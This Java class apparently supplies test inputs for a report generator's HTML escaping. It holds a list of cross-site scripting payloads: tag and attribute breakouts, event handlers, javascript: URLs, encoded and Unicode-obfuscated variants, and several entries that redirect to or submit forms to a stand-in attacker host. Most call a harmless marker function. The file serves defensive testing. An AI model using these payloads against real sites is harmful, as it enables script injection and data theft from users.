package stet.report;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that would run a script if a page put them anywhere unescaped: ways out of every context
 * that our templates have, each with ways to run. All of them would call {@code stetRan}.
 */
final class Payloads {
  /** Ways out of text, attributes, elements with raw text, comments and SVG. */
  private static final List<String> OUT =
      List.of(
          "",
          "\">",
          "'>",
          "\"'>",
          "</p>",
          "</title>",
          "</desc></svg>",
          "</style>",
          "</script>",
          "--><!-- -->",
          "]]>",
          "</textarea>",
          "</bdi></th></table>",
          "` ");

  private static final List<String> RUN =
      List.of(
          "<script>stetRan(1)</script>",
          "<img src=x onerror=stetRan(2)>",
          "<svg onload=stetRan(3)>",
          "<svg><script>stetRan(4)</script></svg>",
          "<a href=\"javascript:stetRan(5)\">x</a>",
          "<iframe srcdoc=\"<script>parent.stetRan(6)</script>\"></iframe>",
          "<details open ontoggle=stetRan(7)>",
          "<input autofocus onfocus=stetRan(8)>",
          "<body onload=stetRan(9)>",
          "<math><mtext><style><img src=x onerror=stetRan(10)></style></mtext></math>",
          "<object data=\"data:text/html,<script>stetRan(11)</script>\"></object>",
          "<video><source onerror=stetRan(12)></video>");

  private static final List<String> ALONE =
      List.of(
          "javascript:stetRan(20)",
          "JaVaScRiPt:stetRan(21)",
          "java&#115;cript:stetRan(22)",
          "data:text/html,<script>stetRan(23)</script>",
          "vbscript:stetRan(24)",
          "\" onmouseover=\"stetRan(25)\" x=\"",
          "' onfocus='stetRan(26)' autofocus='",
          "x onerror=stetRan(27)",
          "&lt;script&gt;stetRan(28)&lt;/script&gt;",
          "\\u003cscript\\u003estetRan(29)\\u003c/script\\u003e",
          "%3Cscript%3EstetRan(30)%3C/script%3E",
          "${stetRan(31)}",
          "{{constructor.constructor('stetRan(32)')()}}",
          "@if(true)stetRan(33)@endif",
          "<!--#exec cmd=\"stetRan(34)\"-->",
          "<?php stetRan(35) ?>",
          "<base href=\"https://attacker.example/\">",
          "<meta http-equiv=refresh content=\"0;url=https://attacker.example/\">",
          "<link rel=stylesheet href=https://attacker.example/x.css>",
          "<style>@import 'https://attacker.example/x.css';</style>",
          "<form action=https://attacker.example/><button>x</button></form>",
          "<img src=https://attacker.example/x.png>",
          "+ADw-script+AD4-stetRan(42)+ADw-/script+AD4-",
          "<scr<script>ipt>stetRan(43)</scr</script>ipt>",
          "<IMG SRC=\"jav\u0001ascript:stetRan(44)\">",
          "<script\u0000>stetRan(45)</script>",
          "\u202E<script>stetRan(46)</script>\u202C",
          "\u2066<img src=x onerror=stetRan(47)>\u2069",
          "＜script＞stetRan(48)＜/script＞",
          "<x onclick=stetRan(49)>\uD800</x>");

  private Payloads() {}

  /** All of them, each different. */
  static List<String> all() {
    List<String> payloads = new ArrayList<>(ALONE);
    for (String out : OUT) {
      for (String run : RUN) {
        payloads.add(out + run);
      }
    }
    return payloads;
  }
}
